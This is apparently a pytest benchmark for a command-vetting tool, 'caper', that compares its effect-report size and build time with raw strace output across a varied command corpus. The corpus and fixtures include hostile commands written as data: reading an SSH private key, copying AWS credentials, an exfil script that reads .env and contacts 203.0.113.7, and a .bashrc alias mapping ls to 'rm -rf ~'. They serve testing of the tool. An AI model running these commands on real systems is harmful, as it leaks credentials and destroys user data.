"""The effect report's size and build time over a corpus of varied commands,
next to the raw `strace -f` output of the same commands.

    python3 -m pytest bench/test_report.py -s        # prints the table, writes results-report.json

Each command runs twice, each time in a fresh copy of the same project (a
git repository with C and Python sources, tests, a Makefile, a SQLite
database, a .env) and of the same home (AWS credentials, an SSH key, a
.bashrc): once through caper.run with the block approver (the report is
what the approver would see; nothing is committed), once natively under
`strace -f -o FILE` (its output file is the raw trace). Build time is the
`report_ms` timing of caper.run, and pytest-benchmark times `report.build`
again on the recorded facts of a few commands.
"""
from __future__ import annotations

import json
import os
import shutil
import statistics
import subprocess
import sys
import time

import pytest

from benchlib import ROOT, commit_all, sqlite_db, write_file

PY = sys.executable
CORPUS = {
    # builds
    "make": "make -s -B",
    "make-j2": "make -s -j2",
    "make-clean": "make -s clean",
    "cc-direct": "cc -o prog src/*.c",
    "compileall": f"{PY} -m compileall -q pkg",
    "tar-dist": "tar czf dist/src.tgz src pkg",
    # tests
    "pytest": f"{PY} -m pytest -q -p no:cacheprovider tests",
    "pytest-cache": f"{PY} -m pytest -q tests",
    "unittest": f"{PY} -m unittest discover -s tests -q",
    "test-report": "mkdir -p reports && ./run_tests.sh > reports/junit.txt",
    # installs into the workspace
    "venv": f"{PY} -m venv --without-pip .venv-local",
    "vendor-copy": "mkdir -p vendor && cp -r pkg vendor/pkg_copy",
    "pip-target": f"{PY} -m pip install -q --no-index --no-deps --target vendor dist/tinypkg-1-py3-none-any.whl",
    # git
    "git-status": "git status",
    "git-log": "git log --oneline",
    "git-diff": "git diff",
    "git-commit": "git add -A && git -c user.email=a@b -c user.name=n commit -qm wip",
    "git-branch": "git checkout -q -b feature",
    "git-stash": "echo x >> README.md && git stash -q",
    "git-gc": "git gc -q",
    "git-reset-hard": "git reset -q --hard HEAD~1",
    "git-clean": "git clean -qfdx",
    "git-hooks": "git config core.hooksPath .hooks",
    # deletions
    "rm-build": "rm -rf build",
    "rm-src": "rm -rf src",
    "rm-git": "rm -rf .git",
    "find-delete": "find . -name '*.o' -delete",
    "rm-readme": "rm README.md",
    "shutil-rmtree": f"{PY} -c \"import shutil; shutil.rmtree('pkg')\"",
    # edits and formatters
    "sed-inplace": "sed -i s/return/return /g src/*.c",
    "sort-inplace": "sort -o data.txt data.txt",
    "truncate": ": > README.md",
    "chmod-env": "chmod 666 .env",
    "sqlite-drop": f"{PY} migrate.py",
    # secrets and the outside
    "cat-env": "cat .env",
    "env-dump": "env > env.txt",
    "copy-aws": "cp ~/.aws/credentials creds.bak",
    "cat-ssh-key": "cat ~/.ssh/id_ed25519",
    "exfil-script": f"{PY} exfil.py",
    "curl": "curl -s --connect-timeout 1 http://203.0.113.7/ || true",
    "grep-secrets": "grep -r TOKEN . || true",
    "bashrc-alias": "echo 'alias ls=\"rm -rf ~\"' >> ~/.bashrc",
    "etc-write": "echo x > /etc/caper-bench-probe || true",
    "tmp-scratch": "mkdir -p /tmp/caper-bench-scratch && seq 100 > /tmp/caper-bench-scratch/n",
    # plain
    "true": "true",
    "ls": "ls -la",
    "du": "du -sh .",
    "wc": "wc -l src/*.c",
    "seq-big": "seq 200000",
    "exit-3": "sh -c 'exit 3'",
}
TIMED = ("true", "rm-src", "make", "exfil-script")


def _project(root: str) -> None:
    os.makedirs(f"{root}/build")
    for i in range(12):
        write_file(f"{root}/src/m{i}.c", f"int m{i}(int x) {{\n    return x + {i};\n}}\n")
    write_file(f"{root}/src/main.c", "int main(void) { return 0; }\n")
    write_file(f"{root}/Makefile", "SRC := $(wildcard src/*.c)\nOBJ := $(SRC:src/%.c=build/%.o)\n"
               "prog: $(OBJ)\n\tcc -o $@ $^\nbuild/%.o: src/%.c\n\t@mkdir -p build\n"
               "\tcc -c -o $@ $<\nclean:\n\trm -rf build prog\n")
    for i in range(6):
        write_file(f"{root}/pkg/mod{i}.py", f"def f{i}(x):\n    return x * {i}\n")
    write_file(f"{root}/pkg/__init__.py", "")
    for i in range(4):
        write_file(f"{root}/tests/test_m{i}.py",
                   f"import unittest\nclass T(unittest.TestCase):\n    def test_{i}(self):\n"
                   f"        self.assertEqual({i} * 2, {2 * i})\n")
    _wheel(f"{root}/dist/tinypkg-1-py3-none-any.whl")
    write_file(f"{root}/run_tests.sh", f"#!/bin/sh\n{PY} -m unittest discover -s tests 2>&1\n",
               0o755)
    write_file(f"{root}/README.md", "# demo\n\nA project for the report bench.\n")
    write_file(f"{root}/data.txt", "\n".join(str((i * 7919) % 1000) for i in range(1000)) + "\n")
    write_file(f"{root}/.gitignore", "build/\nprog\n.env\n*.o\n__pycache__/\n")
    write_file(f"{root}/.env",
               "API_TOKEN=tok_live_4f9a8b7c6d5e4f3a\nDATABASE_URL=postgres://app:pw-9x8y7z@db/app\n")
    write_file(f"{root}/migrate.py", "import sqlite3\nc = sqlite3.connect('app.db')\n"
               "c.executescript('DROP TABLE users; DELETE FROM orders;')\nc.commit()\n")
    write_file(f"{root}/exfil.py", "import socket\ndata = open('.env').read()\n"
               "s = socket.socket(); s.settimeout(1); s.connect_ex(('203.0.113.7', 443))\n")
    sqlite_db(f"{root}/app.db", "CREATE TABLE users(id, name); CREATE TABLE orders(id, total);"
              + "".join(f"INSERT INTO users VALUES ({i}, 'u{i}');" for i in range(50))
              + "".join(f"INSERT INTO orders VALUES ({i}, {i * 3});" for i in range(80)))
    commit_all(root, "one", init=True)
    with open(f"{root}/README.md", "a") as f:
        f.write("More.\n")
    commit_all(root, "two")
    subprocess.run(["make", "-s"], cwd=root, check=True, capture_output=True)


def _wheel(path: str) -> None:
    """A minimal pure-Python wheel, so that an install needs no index."""
    import zipfile
    os.makedirs(os.path.dirname(path))
    files = {"tinypkg/__init__.py": "X = 1\n",
             "tinypkg-1.dist-info/METADATA": "Metadata-Version: 2.1\nName: tinypkg\nVersion: 1\n",
             "tinypkg-1.dist-info/WHEEL": "Wheel-Version: 1.0\nGenerator: bench\n"
                                          "Root-Is-Purelib: true\nTag: py3-none-any\n"}
    record = "".join(f"{n},,\n" for n in files) + "tinypkg-1.dist-info/RECORD,,\n"
    with zipfile.ZipFile(path, "w") as z:
        for n, text in {**files, "tinypkg-1.dist-info/RECORD": record}.items():
            z.writestr(n, text)


def _home(root: str) -> None:
    write_file(f"{root}/.aws/credentials", "[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\n"
               "aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n")
    write_file(f"{root}/.ssh/id_ed25519", "-----BEGIN OPENSSH PRIVATE KEY-----\n"
               "b3BlbnNzaC1rZXktdjEAAAAABG5vbmU\n-----END OPENSSH PRIVATE KEY-----\n")
    os.chmod(f"{root}/.ssh", 0o700)
    write_file(f"{root}/.bashrc", "export PS1='$ '\n")


@pytest.fixture(scope="module")
def templates(workdir):
    proj, home = os.path.join(workdir, "report-proj"), os.path.join(workdir, "report-home")
    if not os.path.exists(proj):
        _project(proj)
        _home(home)
    return proj, home


def _fresh(templates, where: str) -> tuple[str, str, dict]:
    proj, home = templates
    ws, h = os.path.join(where, "proj"), os.path.join(where, "home")
    shutil.rmtree(where, ignore_errors=True)
    os.makedirs(where)
    subprocess.run(["cp", "-a", proj, ws], check=True)
    subprocess.run(["cp", "-a", home, h], check=True)
    env = {**os.environ, "HOME": h, "LC_ALL": "C"}
    env.pop("PYTHONDONTWRITEBYTECODE", None)
    return ws, h, env


RESULTS: dict[str, dict] = {}
FACTS: dict[str, object] = {}


@pytest.mark.parametrize("name", list(CORPUS))
def test_report_size(templates, workdir, name, monkeypatch):
    import caper
    import caper.report.build

    cmd = CORPUS[name]
    build = caper.report.build.build

    def keep(facts):
        FACTS[name] = facts
        return build(facts)
    monkeypatch.setattr(caper.report.build, "build", keep)
    ws, _, env = _fresh(templates, os.path.join(workdir, "report-run"))
    t = time.perf_counter()
    out = caper.run(cmd, cwd=ws, approver="block", env=env, timeout=60,
                    state_dir=os.path.join(workdir, "report-state"))
    wall = (time.perf_counter() - t) * 1000
    report = out.report.to_json()

    ws, _, env = _fresh(templates, os.path.join(workdir, "report-strace"))
    raw = os.path.join(workdir, "strace.out")
    subprocess.run(["strace", "-f", "-o", raw, "/bin/sh", "-c", cmd], cwd=ws, env=env,
                   capture_output=True, timeout=120)
    RESULTS[name] = {"command": cmd, "report_bytes": len(report.encode()),
                     "raw_strace_bytes": os.path.getsize(raw),
                     "report_ms": out.timings["report_ms"], "run_wall_ms": wall,
                     "counts": {k: v.observed for k, v in out.report.counts.items()},
                     "uncertain": out.report.uncertain}
    assert len(report.encode()) <= caper.report.build.CAP_BYTES


@pytest.mark.parametrize("name", TIMED)
def test_report_build_time(benchmark, name):
    import caper.report.build
    if name not in FACTS:
        pytest.skip("run test_report_size first (same session)")
    benchmark.group = "report-build"
    benchmark(caper.report.build.build, FACTS[name])


def _pct(xs: list[float], p: float) -> float:
    xs = sorted(xs)
    return xs[min(len(xs) - 1, round(p / 100 * (len(xs) - 1)))]


def test_summary(workdir):
    """Prints the table and writes bench/results-report.json (runs last)."""
    if len(RESULTS) < len(CORPUS):
        pytest.skip("needs the whole corpus in this session")
    sizes = [r["report_bytes"] for r in RESULTS.values()]
    raws = [r["raw_strace_bytes"] for r in RESULTS.values()]
    ms = [r["report_ms"] for r in RESULTS.values()]
    summary = {
        "commands": len(RESULTS),
        "report_bytes": {"median": statistics.median(sizes), "p95": _pct(sizes, 95),
                         "max": max(sizes)},
        "raw_strace_bytes": {"median": statistics.median(raws), "p95": _pct(raws, 95),
                             "max": max(raws)},
        "report_ms": {"median": statistics.median(ms), "p95": _pct(ms, 95), "max": max(ms)},
        "ratio_of_medians": statistics.median(raws) / statistics.median(sizes),
    }
    out = {"summary": summary, "commands": RESULTS}
    with open(os.path.join(ROOT, "bench", "results-report.json"), "w") as f:
        json.dump(out, f, indent=1)
    print()
    print("| command | report bytes | strace -f bytes | ratio | report ms |")
    print("|---|---:|---:|---:|---:|")
    for name, r in RESULTS.items():
        print(f"| `{name}` | {r['report_bytes']:,} | {r['raw_strace_bytes']:,} | "
              f"{r['raw_strace_bytes'] / r['report_bytes']:.0f}× | {r['report_ms']:.1f} |")
    print(json.dumps(summary, indent=1))
